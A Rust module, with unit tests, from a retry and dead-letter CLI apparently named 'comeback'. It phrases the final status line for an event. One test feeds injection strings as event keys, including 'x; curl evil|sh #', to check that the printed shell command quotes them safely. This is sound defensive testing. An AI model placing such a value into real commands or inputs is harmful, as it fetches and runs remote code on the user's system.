//! How an event stands at the end of its timeline: what is known, and no more.

use anstyle::AnsiColor;
use comeback_engine::{HOLD, Timestamp};

use crate::operate::deployment::Unlisted;
use crate::operate::function::attach_commands;
use crate::operate::pauses::in_force::InForce;
use crate::operate::session::coloured;
use crate::operate::trace::logs::{Report, Trace};
use crate::operate::trace::story::{End, Step, What};
use crate::text::durations::short;
use crate::text::terminal::{command_line, shown};

/// What the pauses in force mean for a waiting event, if they decide when it is retried.
fn by_pauses(trace: &Trace, now: Timestamp, place: &str) -> Option<String> {
    let end = &trace.story.end;
    let due = if let End::Waiting { due } = end { Some(*due) } else { None };
    match trace.pause? {
        pause @ InForce::Paused { until } if pause.holds(due) => {
            let until = until.map(|until| format!(" until {until}")).unwrap_or_default();
            Some(format!(
                "Its function is paused{until}. `comeback pause --list{place}` shows who paused it, and why."
            ))
        }
        InForce::NotPaused { back_by } if *end == End::Held => {
            let back_by = back_by.unwrap_or_else(|| now.saturating_add(HOLD));
            let (soon, late) = (back_by.since(now), now.since(back_by));
            Some(if late.is_zero() {
                format!(
                    "Its function was resumed. The next retry comes within {}.",
                    short(soon.as_secs_f64())
                )
            } else {
                let late = short(late.as_secs_f64());
                format!(
                    "Its function was resumed, and the next retry has been due for {late}. `comeback \
                     doctor{place}` says whether retries run."
                )
            })
        }
        InForce::Paused { .. } | InForce::NotPaused { .. } => None,
    }
}

/// What happens to a waiting event whose function is not on the allow-list. No pause holds it then.
fn by_allow_list(trace: &Trace, now: Timestamp, place: &str) -> Option<String> {
    let what = match (trace.not_allowed?, &trace.story.end) {
        (Unlisted::DeadLettered, End::Waiting { due }) if *due > now => {
            let soon = short(due.since(now).as_secs_f64());
            format!(
                "Its function is not on the allow-list, so the event will be dead-lettered \
                 (target_not_allowed) within {soon}."
            )
        }
        (Unlisted::DeadLettered, _) => {
            let next = "when the handler next receives it";
            format!(
                "Its function is not on the allow-list, so the event will be dead-lettered \
                 (target_not_allowed) {next}."
            )
        }
        (Unlisted::Kept, _) => "It is kept but not retried, because the allow-list is empty.".into(),
    };
    let attach = attach_commands([&*trace.story.target], &trace.home, place);
    Some(format!("{what} To retry it: {attach}."))
}

/// What is known, and no more.
pub(crate) fn end(trace: &Trace, now: Timestamp, place: &str) -> String {
    if let Some(text) = by_allow_list(trace, now, place).or_else(|| by_pauses(trace, now, place)) {
        return text;
    }
    match &trace.story.end {
        End::Waiting { due } if *due > now => {
            format!("Waiting. The next retry is due in {}.", short(due.since(now).as_secs_f64()))
        }
        End::Waiting { due } => {
            let late = short(now.since(*due).as_secs_f64());
            format!(
                "The next retry has been due for {late}. `comeback doctor{place}` says whether retries run."
            )
        }
        End::Held => {
            format!("Its function is paused. `comeback pause --list{place}` shows who paused it, and why.")
        }
        End::Kept => "It is kept; the handler will try again.".into(),
        End::DeadLettered => {
            let dead_lettered = |step: &&Step| matches!(step.what, What::DeadLettered { .. });
            let at = trace.story.steps.iter().rfind(dead_lettered).map(|step| format!(" at {}", step.at));
            let at = at.unwrap_or_default();
            format!(
                "Dead-lettered{at}. To see whether it is still there: `{}`",
                dead_show(&trace.story.key, place)
            )
        }
        End::Invoked { request_id, at } => {
            let retry = trace.story.steps.iter().rev().find_map(|step| match step.what {
                What::Invoked { retry, .. } => Some(format!("Retry {retry}")),
                _ => None,
            });
            let retry = retry.unwrap_or_else(|| "The last retry".into());
            let report = trace.invocation(request_id.as_deref()).map(|invocation| &invocation.report);
            after_retry(&retry, *at, report, now)
        }
    }
}

/// The command that shows a dead-letter. Whoever sent the event may have chosen its key.
fn dead_show(key: &str, place: &str) -> String {
    let argument = command_line([&*shown(key)]);
    if key.starts_with('-') {
        format!("comeback dead show{place} -- {argument}")
    } else {
        format!("comeback dead show {argument}{place}")
    }
}

/// What is known after a retry that no failure has followed: a success leaves no line in the handler's log.
fn after_retry(retry: &str, at: Timestamp, report: Option<&Report>, now: Timestamp) -> String {
    let since = |moment| short(now.since(moment).as_secs_f64());
    let unknown =
        |why: &str| format!("{retry} was invoked {} ago, and no failure followed. {why}", since(at));
    let (colour, text) = match report {
        Some(Report::Seen { at: end, status: Some(status) }) if status != "success" => {
            let what = format!(
                "{retry} ended at {end} with status {status}, and its failure has not reached the handler yet."
            );
            (AnsiColor::Red, what)
        }
        Some(Report::Seen { at: end, .. }) => {
            let no_failure = format!("no failure followed in {}", since(*end));
            (AnsiColor::Green, format!("{retry} probably succeeded: it ended at {end}, and {no_failure}."))
        }
        Some(Report::NotSeen) => {
            (AnsiColor::Yellow, unknown("The function's log has no REPORT line of it yet."))
        }
        Some(Report::Unread { why }) => {
            (AnsiColor::Yellow, unknown(&format!("The function's log is unreadable: {why}.")))
        }
        None => (
            AnsiColor::Yellow,
            unknown("The invocation's request id is unknown, so its log was not searched."),
        ),
    };
    coloured(colour, &shown(&text))
}

#[cfg(test)]
mod tests {
    use comeback_engine::DueBy;

    use super::*;
    use crate::operate::trace::logs::Invocation;
    use crate::operate::trace::logs::tests::{at, invoked, trace};

    fn plain(trace: &Trace, now: u64) -> String {
        anstream::adapter::strip_str(&end(trace, at(now), " --stack shop")).to_string()
    }

    #[test]
    fn a_key_cannot_command_the_shell() {
        for (key, shown) in
            [("x; curl evil|sh #", "x; curl evil|sh #"), ("a\0`b`$c", "a\\u{0}`b`$c"), ("-k'", "-k'")]
        {
            let mut trace = trace(Vec::new(), End::DeadLettered, Vec::new());
            trace.story.key = key.into();
            let text = plain(&trace, 64);
            let (_, command) = text.split_once("To see whether it is still there: `").unwrap();
            let words = shlex::split(command.strip_suffix('`').unwrap()).unwrap();
            let words: Vec<_> = words.iter().map(String::as_str).collect();
            if key.starts_with('-') {
                assert_eq!(words, ["comeback", "dead", "show", "--stack", "shop", "--", shown]);
            } else {
                assert_eq!(words, ["comeback", "dead", "show", shown, "--stack", "shop"]);
            }
        }
    }

    #[test]
    fn the_pauses_in_force_count_and_not_those_of_the_log() {
        let last = |end, pause| {
            let held = What::Held { retry: 1, last: at(3) };
            let trace = Trace { pause: Some(pause), ..trace(vec![(0, held)], end, vec![]) };
            plain(&trace, 10)
        };
        let paused = |until: Option<u64>| InForce::Paused { until: until.map(at) };
        let not_paused = |back_by: Option<u64>| InForce::NotPaused { back_by: back_by.map(at) };
        let listed = "`comeback pause --list --stack shop` shows who paused it, and why.";
        let until = format!("Its function is paused until 2026-09-14T16:33:20.000Z. {listed}");
        assert_eq!(last(End::Waiting { due: at(70) }, paused(Some(3_600))), until);
        assert_eq!(last(End::Kept, paused(None)), format!("Its function is paused. {listed}"));
        let waits = "Waiting. The next retry is due in 1m.";
        assert_eq!(last(End::Waiting { due: at(70) }, paused(Some(60))), waits);
        assert_eq!(last(End::Waiting { due: at(70) }, not_paused(Some(60))), waits);
        let resumed = "Its function was resumed. The next retry comes within";
        assert_eq!(last(End::Held, not_paused(Some(70))), format!("{resumed} 1m."));
        assert_eq!(last(End::Held, not_paused(None)), format!("{resumed} 22m 24s."));
        let late = "Its function was resumed, and the next retry has been due for 5s.";
        assert!(last(End::Held, not_paused(Some(5))).starts_with(late));
    }

    #[test]
    fn an_event_off_the_allow_list_is_said_not_to_be_retried() {
        let said = |unlisted, end| {
            let mut trace = trace(vec![(0, What::Held { retry: 1, last: at(3) })], end, vec![]);
            trace.story.target = "arn:aws:lambda:eu-west-1:123456789012:function:orders:$LATEST".into();
            (trace.not_allowed, trace.pause) = (unlisted, Some(InForce::Paused { until: None }));
            plain(&trace, 10)
        };
        let not_allowed =
            "Its function is not on the allow-list, so the event will be dead-lettered (target_not_allowed)";
        let attach = "To retry it: `comeback attach orders --stack shop` (if the function moved to another \
                      stack, see docs/attach.md).";
        let received = format!("{not_allowed} when the handler next receives it. {attach}");
        for (unlisted, end, expected) in [
            (
                Unlisted::DeadLettered,
                End::Waiting { due: at(70) },
                format!("{not_allowed} within 1m. {attach}"),
            ),
            (Unlisted::DeadLettered, End::Waiting { due: at(0) }, received.clone()),
            (Unlisted::DeadLettered, End::Held, received),
            (
                Unlisted::Kept,
                End::Waiting { due: at(70) },
                format!("It is kept but not retried, because the allow-list is empty. {attach}"),
            ),
        ] {
            assert_eq!(said(Some(unlisted), end), expected);
        }
        assert!(said(None, End::Held).starts_with("Its function is paused."));
    }

    #[test]
    fn a_function_elsewhere_is_not_to_be_attached() {
        let mut trace = trace(vec![(0, What::Held { retry: 1, last: at(3) })], End::Held, vec![]);
        trace.not_allowed = Some(Unlisted::Kept);
        trace.story.target = "arn:aws:lambda:eu-west-2:123456789012:function:orders".into();
        let said = plain(&trace, 10);
        let expected = "To retry it: use a deployment in the account and region of \
                        arn:aws:lambda:eu-west-2:123456789012:function:orders.";
        assert!(said.ends_with(expected), "{said}");
    }

    #[test]
    fn the_last_sentence_says_what_is_known_and_no_more() {
        let last = |what, end, invocations| plain(&trace(vec![(0, what)], end, invocations), 10);
        let wait = || What::Waits { retry: 1, due: at(3), due_by: DueBy::Policy, policy: None };
        let dead_lettered = What::DeadLettered { reason: "max_age".into(), detail: None, policy: None };
        for (what, end, expected) in [
            (wait(), End::Waiting { due: at(70) }, "Waiting. The next retry is due in 1m."),
            (
                wait(),
                End::Waiting { due: at(0) },
                "The next retry has been due for 10s. `comeback doctor --stack shop` says whether retries run.",
            ),
            (
                wait(),
                End::Held,
                "Its function is paused. `comeback pause --list --stack shop` shows who paused it, and why.",
            ),
            (wait(), End::Kept, "It is kept; the handler will try again."),
            (
                dead_lettered,
                End::DeadLettered,
                "Dead-lettered at 2026-09-14T15:33:20.000Z. To see whether it is still there: `comeback dead \
                 show k-1 --stack shop`",
            ),
        ] {
            assert_eq!(last(what, end, vec![]), expected);
        }
        let seen = |status: Option<&str>| Report::Seen { at: at(5), status: status.map(ToOwned::to_owned) };
        let succeeded = "Retry 1 probably succeeded: it ended at 2026-09-14T15:33:25.000Z, and no failure followed in 5s.";
        for (report, expected) in [
            (seen(None), succeeded),
            (seen(Some("success")), succeeded),
            (
                seen(Some("timeout")),
                "Retry 1 ended at 2026-09-14T15:33:25.000Z with status timeout, and its failure has not \
                 reached the handler yet.",
            ),
            (
                Report::NotSeen,
                "Retry 1 was invoked 10s ago, and no failure followed. The function's log has no REPORT line \
                 of it yet.",
            ),
            (
                Report::Unread { why: "denied".into() },
                "Retry 1 was invoked 10s ago, and no failure followed. The function's log is unreadable: \
                 denied.",
            ),
        ] {
            let invocation = Invocation { request_id: "r-1".into(), report, lines: Vec::new() };
            let end = End::Invoked { request_id: Some("r-1".into()), at: at(0) };
            assert_eq!(last(invoked(1), end, vec![invocation]), expected);
        }
        assert_eq!(
            last(invoked(1), End::Invoked { request_id: None, at: at(0) }, vec![]),
            "Retry 1 was invoked 10s ago, and no failure followed. The invocation's request id is unknown, so \
             its log was not searched."
        );
    }
}
